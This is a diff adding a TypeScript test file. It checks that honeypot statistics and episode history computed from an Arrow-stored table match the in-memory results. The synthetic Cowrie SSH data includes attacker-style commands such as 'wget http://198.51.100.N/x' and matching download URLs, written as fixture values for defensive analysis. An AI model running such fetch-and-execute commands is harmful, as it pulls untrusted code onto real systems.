@@ -1,0 +1,122 @@
+/** A table that stays in its file is told of as the same table in memory: statistics, history, and what is read of parts. */
+import { afterAll, describe, expect, test } from "bun:test";
+import { join } from "node:path";
+import { findEpisodes } from "../../../lib/history/episodes.ts";
+import { withTablePeaks } from "../../../lib/history/peak-episodes.ts";
+import { findStoredEpisodes } from "../../../lib/history/stored-episodes.ts";
+import { type CellSums, CellSummer, tellsEvents } from "../../../lib/reduced/cell-sums.ts";
+import { KIND_NAMES } from "../../../lib/reduced/kinds.ts";
+import { BATCH_ROWS, reducedToIpc } from "../../../lib/reduced/reduced-arrow.ts";
+import type { ReducedTable } from "../../../lib/reduced/reduced-table.ts";
+import { selectTable } from "../../../lib/reduced/select-table.ts";
+import { type StoredSelection, StoredTable } from "../../../lib/reduced/stored-table.ts";
+import { buildCoverage } from "../../../lib/statistics/coverage.ts";
+import type { StatisticsOptions } from "../../../lib/statistics/settings.ts";
+import { computeStatistics } from "../../../lib/statistics/statistics.ts";
+import { computeStored } from "../../../lib/statistics/stored-statistics.ts";
+import { buildReduced, type LiteralRow } from "../../support/build.ts";
+import { FIXTURES_FOLDER } from "../../support/example-fleet.ts";
+import { type Random, seededRandom } from "../../support/random.ts";
+import { makeTempDir } from "../../support/run.ts";
+import { analyze } from "../../support/tables.ts";
+
+const temp = await makeTempDir();
+afterAll(() => temp[Symbol.asyncDispose]());
+let written = 0;
+
+async function store(table: ReducedTable, selection?: StoredSelection): Promise<{ stored: StoredTable; cells: CellSums }> {
+  const path = join(temp.path, `${written++}.arrow`);
+  await Bun.write(path, Buffer.concat([...reducedToIpc(table)]));
+  const whole = StoredTable.open(path)!;
+  const stored = selection === undefined ? whole : whole.select(selection);
+  const summer = new CellSummer();
+  for (const kind of KIND_NAMES) for (const part of stored.parts(kind)) summer.add(part);
+  return { stored, cells: summer.finish(stored) };
+}
+
+const dateOf = (day: number) => new Date(Date.UTC(2026, 0, 1 + day)).toISOString().slice(0, 10);
+
+/** More rows of a kind than one batch holds, over more days than any comparison looks at. */
+function drawLarge(): ReducedTable {
+  const random = seededRandom("stored");
+  const rows: LiteralRow[] = [];
+  for (let day = 0; day < 100; day++) {
+    for (const sensor of ["a", "b", "c"]) rows.push(...drawDay(random, dateOf(day), sensor, day >= 97 && sensor === "b"));
+  }
+  return buildReduced(rows);
+}
+
+function drawDay(random: Random, date: string, sensor: string, isBusy: boolean): LiteralRow[] {
+  const from = () => Array.from({ length: 1 + random.int(4) }, () => `203.0.113.${random.int(250)}`);
+  const some = (n: number, most: number) => new Set(Array.from({ length: n }, (_, i) => (i % 2 === 0 ? random.zipf(1.3, most) : random.int(most))));
+  const count = () => 4 + random.int(6);
+  const startUs = Date.parse(date) * 1000;
+  return [
+    ...Array.from({ length: 24 }, (_, hour): LiteralRow => ({
+      kind: "event", date, sensor, key: { eventid: "cowrie.login.failed", hour }, count: 20 + random.int(9), from: from(),
+      firstSeenUs: startUs + hour * 3_600_000_000, lastSeenUs: startUs + hour * 3_600_000_000 + 60_000_000,
+    })),
+    ...[...some(60, 900)].map((n): LiteralRow => ({ kind: "login", date, sensor, key: { username: `u${n % 7}`, password: `p${n}` }, count: count() + (isBusy && n < 3 ? 300 : 0), from: from() })),
+    ...[...some(20, 300)].map((n): LiteralRow => ({ kind: "connect", date, sensor, key: { src_ip: `203.0.${n % 40}.${n % 200}`, dst_port: 22 + (n & 1) }, count: count() })),
+    ...[...some(3, 60)].map((n): LiteralRow => ({ kind: "command", date, sensor, key: { input: `wget http://198.51.100.${n}/x` }, count: count(), from: from() })),
+    ...[...some(2, 30)].map((n): LiteralRow => ({ kind: "file_download", date, sensor, key: { url: `http://198.51.100.${n}/x`, outfile: null, shasum: `${n}` }, count: count(), from: from() })),
+    ...[...some(2, 9)].map((n): LiteralRow => ({ kind: "session_closed", date, sensor, key: { src_ip: `198.51.100.${n}`, robot: n & 1 }, count: count() })),
+    { kind: "proxy_request", date, sensor, key: { src_ip: "192.0.2.7", dst_ip: "198.51.100.9", dst_port: 25 }, count: isBusy ? 900 : 3 },
+    ...[...some(2, 9)].map((n): LiteralRow => ({ kind: "client", date, sensor, key: { version: `SSH-2.0-${n}`, hassh: null }, count: count(), from: from() })),
+  ];
+}
+
+const { table: fleet } = await analyze([join(FIXTURES_FOLDER, "fleet")]);
+const large = drawLarge();
+
+describe("statistics of a table in its file", () => {
+  test("the drawn table is read in several batches, and has something to tell", () => {
+    expect(large.kinds.login.rows).toBeGreaterThan(BATCH_ROWS);
+    expect(computeStatistics(large).tests.reported).toBeGreaterThan(0);
+  });
+
+  const cases: [string, ReducedTable, StatisticsOptions][] = [
+    ["the example fleet", fleet, {}],
+    ["the example fleet, every comparison", fleet, { rows: "all", strict: true, lastDays: 3 }],
+    ["a drawn table, other days, short lists", large, { lastDays: 14, baselineDays: 7, listLimit: 5 }],
+    ["a drawn table, new since its tenth day", large, { newSinceDay: large.kinds.event.day[0]! + 10 }],
+  ];
+  for (const [name, table, options] of cases) {
+    test(name, async () => {
+      const { stored, cells } = await store(table);
+      expect(tellsEvents(cells)).toBe(true);
+      expect(JSON.stringify(await computeStored(stored, cells, options, 1))).toBe(JSON.stringify(computeStatistics(table, options)));
+    });
+  }
+
+  test("some sensors, kinds and days of it", async () => {
+    const days = { first: large.kinds.event.day[0]! + 5, last: large.kinds.event.day[0]! + 90 };
+    const { stored, cells } = await store(large, { sensors: ["a", "c"], kinds: ["login"] });
+    const whole = selectTable(large, { sensors: ["a", "c"], kinds: ["login"] });
+    expect(JSON.stringify(await computeStored(stored, cells, { kinds: ["login"] }, 1))).toBe(JSON.stringify(computeStatistics(whole, { kinds: ["login"] })));
+    const short = await store(large, { days });
+    expect(short.cells.table.kinds.event.day[0]).toBe(days.first);
+    expect(short.cells.table.kinds.connect.day.at(-1)).toBe(days.last);
+  });
+
+  test("a sensor-day of which no event is counted is known by the sums", async () => {
+    const { cells } = await store(buildReduced([{ kind: "login", date: "2026-01-01", sensor: "a", key: { username: "u", password: "p" }, count: 1 }]));
+    expect(tellsEvents(cells)).toBe(false);
+  });
+});
+
+describe("history of a table in its file", () => {
+  for (const [name, table] of [["the example fleet", fleet], ["a drawn table", large]] as const) {
+    test(name, async () => {
+      const { stored, cells } = await store(table);
+      const episodes = findStoredEpisodes(stored, cells, buildCoverage(cells.table));
+      expect(JSON.stringify(episodes)).toBe(JSON.stringify(withTablePeaks(table, findEpisodes(table))));
+    });
+  }
+});
+
+test("rows that do not come by day and sensor are refused", () => {
+  const summer = new CellSummer();
+  summer.add(large.kinds.login);
+  expect(() => summer.add(large.kinds.login)).toThrow(RangeError);
+});
